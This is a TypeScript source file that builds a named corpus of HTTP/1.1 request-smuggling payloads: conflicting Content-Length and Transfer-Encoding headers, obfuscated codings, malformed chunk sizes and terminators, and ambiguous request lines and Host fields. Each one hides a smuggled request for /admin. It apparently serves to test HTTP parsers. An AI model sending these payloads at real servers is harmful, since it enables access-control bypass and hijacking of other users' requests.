/**
 * Ways to make two HTTP/1.1 readers see different requests in the same bytes, each with the name of its technique. Behind
 * a reader that takes one of them, an attacker's request is answered as somebody else's.
 */

/** The request that an attacker wants to be seen where an honest reader sees a body, or nothing. */
const SMUGGLED = "GET /admin HTTP/1.1\r\nHost: catalog\r\n\r\n";
const TAIL = `0\r\n\r\n${SMUGGLED}`;

function post(fields: readonly string[], body: string, options: { readonly version?: string } = {}): string {
  const { version = "1.1" } = options;
  return `${["POST / HTTP/".concat(version), "Host: catalog", ...fields].join("\r\n")}\r\n\r\n${body}`;
}

const both = (transferEncoding: string): string =>
  post(["Content-Length: 6", transferEncoding], `0\r\n\r\n${SMUGGLED}`);
const alone = (transferEncoding: string): string => post([transferEncoding], TAIL);
const chunks = (body: string): string => post(["Transfer-Encoding: chunked"], body);
const lengths = (...fields: string[]): string => post(fields, `hello${SMUGGLED}`);

export const SMUGGLING_CORPUS: readonly (readonly [technique: string, bytes: string])[] = [
  // Two lengths at once.
  ["CL.TE: the front reads the length, the back the chunks", both("Transfer-Encoding: chunked")],
  [
    "TE.CL: the front reads the chunks, the back the length",
    post(["Content-Length: 4", "Transfer-Encoding: chunked"], `5c\r\n${SMUGGLED}\r\n0\r\n\r\n`),
  ],
  ["TE first, length second", post(["Transfer-Encoding: chunked", "Content-Length: 6"], TAIL)],
  ["CL.TE with a length of 0", post(["Content-Length: 0", "Transfer-Encoding: chunked"], TAIL)],
  ["CL.CL: two different lengths", lengths("Content-Length: 5", "Content-Length: 0")],
  ["CL.CL: the same length twice", lengths("Content-Length: 5", "Content-Length: 5")],
  ["CL.CL in one field", lengths("Content-Length: 5, 0")],
  ["CL.CL in one field, equal", lengths("Content-Length: 5, 5")],
  ["CL.CL under names of different case", lengths("Content-Length: 5", "content-length: 0")],

  // Lengths that some read as numbers.
  ["a signed length", lengths("Content-Length: +5")],
  ["a negative length", lengths("Content-Length: -5")],
  ["a hexadecimal length", lengths("Content-Length: 0x5")],
  ["a length with a fraction", lengths("Content-Length: 5.0")],
  ["a length with an exponent", lengths("Content-Length: 5e0")],
  ["a length with a space within", lengths("Content-Length: 5 0")],
  ["a length with an underscore", lengths("Content-Length: 0_5")],
  ["an empty length", lengths("Content-Length:")],
  ["a length beyond 2^64", lengths("Content-Length: 18446744073709551621")],
  ["a length beyond 2^53", lengths("Content-Length: 9007199254740993")],
  ["a length with a control character", lengths("Content-Length: \x0b5")],
  ["a quoted length", lengths('Content-Length: "5"')],
  ["a length in other digits", lengths("Content-Length: \xb2")],

  // TE.TE: a coding that one of two readers does not recognise.
  ["TE.TE: a coding nobody knows", both("Transfer-Encoding: xchunked")],
  ["TE.TE: alone", alone("Transfer-Encoding: xchunked")],
  ["TE.TE: a space before the colon", alone("Transfer-Encoding : chunked")],
  ["TE.TE: a tab before the colon", alone("Transfer-Encoding\t: chunked")],
  ["TE.TE: vertical tab before the coding", alone("Transfer-Encoding: \x0bchunked")],
  ["TE.TE: form feed after the coding", alone("Transfer-Encoding: chunked\x0c")],
  ["TE.TE: a tab after the coding", alone("Transfer-Encoding: chunked\t")],
  ["TE.TE: NUL after the coding", alone("Transfer-Encoding: chunked\0")],
  ["TE.TE: a space before the name", alone(" Transfer-Encoding: chunked")],
  ["TE.TE: folded", alone("Transfer-Encoding:\r\n chunked")],
  ["TE.TE: folded into the field before", post(["X: a", " Transfer-Encoding: chunked"], TAIL)],
  ["TE.TE: twice", post(["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"], TAIL)],
  ["TE.TE: chunked, then another", post(["Transfer-Encoding: chunked", "Transfer-Encoding: x"], TAIL)],
  ["TE.TE: identity", alone("Transfer-Encoding: identity")],
  ["TE.TE: chunked, identity", alone("Transfer-Encoding: chunked, identity")],
  ["TE.TE: quoted", alone('Transfer-Encoding: "chunked"')],
  ["TE.TE: with a parameter", alone("Transfer-Encoding: chunked;q=1")],
  ["TE.TE: an empty coding", alone("Transfer-Encoding:")],
  ["TE.TE: a comma before", alone("Transfer-Encoding: , chunked")],
  ["TE.TE: a comma after", alone("Transfer-Encoding: chunked,")],
  ["TE.TE: a soft hyphen within", alone("Transfer-Encoding: chun\xadked")],
  ["TE.TE: a name with a byte above ASCII", alone("Transfer-Enc\xf6ding: chunked")],
  ["TE.TE: a name behind a lone LF", alone("X: a\nTransfer-Encoding: chunked")],
  ["TE.TE: a name behind a lone CR", alone("X: a\rTransfer-Encoding: chunked")],
  ["TE.TE: a field without a colon", alone("Transfer-Encoding chunked")],
  ["TE in HTTP/1.0", post(["Transfer-Encoding: chunked"], TAIL, { version: "1.0" })],
  [
    "TE in HTTP/1.0 that stays open",
    post(["Connection: keep-alive", "Transfer-Encoding: chunked"], TAIL, { version: "1.0" }),
  ],

  // Chunks whose end some see elsewhere.
  ["TERM.EXT: LF ends the line of the size", chunks(`2\nhi\r\n${TAIL}`)],
  ["TERM.EXT: LF within an extension", chunks(`2;a\nb\r\nhi\r\n${TAIL}`)],
  ["EXT.TERM: CR within an extension", chunks(`2;a\rb\r\nhi\r\n${TAIL}`)],
  ["an extension with a space, then another size", chunks(`2; 5\r\nhi\r\n${TAIL}`)],
  ["an extension in quotes that do not end", chunks(`2;a="\r\nhi\r\n${TAIL}`)],
  ["an extension without a name", chunks(`2;\r\nhi\r\n${TAIL}`)],
  ["TERM.SPILL: LF ends the content", chunks(`2\r\nhi\n${TAIL}`)],
  ["SPILL.TERM: two bytes of content too many", chunks(`2\r\nhiXX${TAIL}`)],
  ["ONE.TWO: the content's end is missing", chunks(`2\r\nhi${TAIL}`)],
  ["a size with 0x", chunks(`0x2\r\nhi\r\n${TAIL}`)],
  ["a signed size", chunks(`+2\r\nhi\r\n${TAIL}`)],
  ["a negative size", chunks(`-2\r\nhi\r\n${TAIL}`)],
  ["a size with a space before", chunks(` 2\r\nhi\r\n${TAIL}`)],
  ["a size with a space after", chunks(`2 \r\nhi\r\n${TAIL}`)],
  ["a size with a tab after", chunks(`2\t\r\nhi\r\n${TAIL}`)],
  ["an empty size", chunks(`\r\nhi\r\n${TAIL}`)],
  ["a size that wraps at 2^32", chunks(`100000000000000002\r\nhi\r\n${TAIL}`)],
  ["a size that wraps at 2^64", chunks(`10000000000000002\r\nhi\r\n${TAIL}`)],
  ["a size that a double rounds", chunks(`20000000000001\r\nhi\r\n${TAIL}`)],
  ["a size with an underscore", chunks(`0_2\r\nhi\r\n${TAIL}`)],
  ["LF ends the last chunk", chunks(`0\n\r\n${SMUGGLED}`)],
  ["LF ends the trailers", chunks(`0\r\n\n${SMUGGLED}`)],
  ["a length among the trailers", chunks(`0\r\nContent-Length: 5\r\n\r\n${SMUGGLED}`)],
  ["another coding among the trailers", chunks(`0\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED}`)],
  ["another host among the trailers", chunks(`0\r\nHost: admin\r\n\r\n${SMUGGLED}`)],
  ["a folded trailer", chunks(`0\r\nX: a\r\n b\r\n\r\n${SMUGGLED}`)],

  // Heads in which some find another request, another host or another path.
  ["LF ends the request line", `GET / HTTP/1.1\nHost: catalog\r\n\r\n${SMUGGLED}`],
  ["LF ends a field", `GET / HTTP/1.1\r\nHost: catalog\nX: a\r\n\r\n${SMUGGLED}`],
  ["LF ends the head", `GET / HTTP/1.1\r\nHost: catalog\r\n\n${SMUGGLED}`],
  ["CR ends a field", `GET / HTTP/1.1\r\nHost: catalog\rX: a\r\n\r\n${SMUGGLED}`],
  ["CR CR LF ends a field", "GET / HTTP/1.1\r\nHost: catalog\r\r\nX: a\r\n\r\n"],
  ["two spaces in the request line", "GET  /admin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["a tab in the request line", "GET\t/admin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["two targets", "GET / /admin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["two versions", "GET / HTTP/1.1 HTTP/1.0\r\nHost: catalog\r\n\r\n"],
  ["HTTP/0.9", "GET /admin\r\n\r\n"],
  ["a version in lower case", "GET / http/1.1\r\nHost: catalog\r\n\r\n"],
  ["NUL in the target", "GET /\0admin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["a byte above ASCII in the target", "GET /\xffadmin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["a fragment in the target", "GET /#/../admin HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["two hosts", "GET / HTTP/1.1\r\nHost: catalog\r\nHost: admin\r\n\r\n"],
  ["two hosts in one field", "GET / HTTP/1.1\r\nHost: catalog, admin\r\n\r\n"],
  ["no host", "GET / HTTP/1.1\r\n\r\n"],
  ["a host with a path", "GET / HTTP/1.1\r\nHost: catalog/admin\r\n\r\n"],
  ["a host with a user", "GET / HTTP/1.1\r\nHost: catalog@admin\r\n\r\n"],
  ["a host with a space", "GET / HTTP/1.1\r\nHost: catalog admin\r\n\r\n"],
  ["a host behind a space", "GET / HTTP/1.1\r\n Host: admin\r\nHost: catalog\r\n\r\n"],
  ["a user in an absolute target", "GET http://catalog@admin/ HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["another scheme in an absolute target", "GET ftp://admin/ HTTP/1.1\r\nHost: catalog\r\n\r\n"],
  ["a name with a NUL", "GET / HTTP/1.1\r\nHost: catalog\r\nX\0: a\r\n\r\n"],
  ["an empty name", "GET / HTTP/1.1\r\nHost: catalog\r\n: a\r\n\r\n"],
  ["a method in lower case", "post / HTTP/1.1\r\nHost: catalog\r\n\r\n"],
];
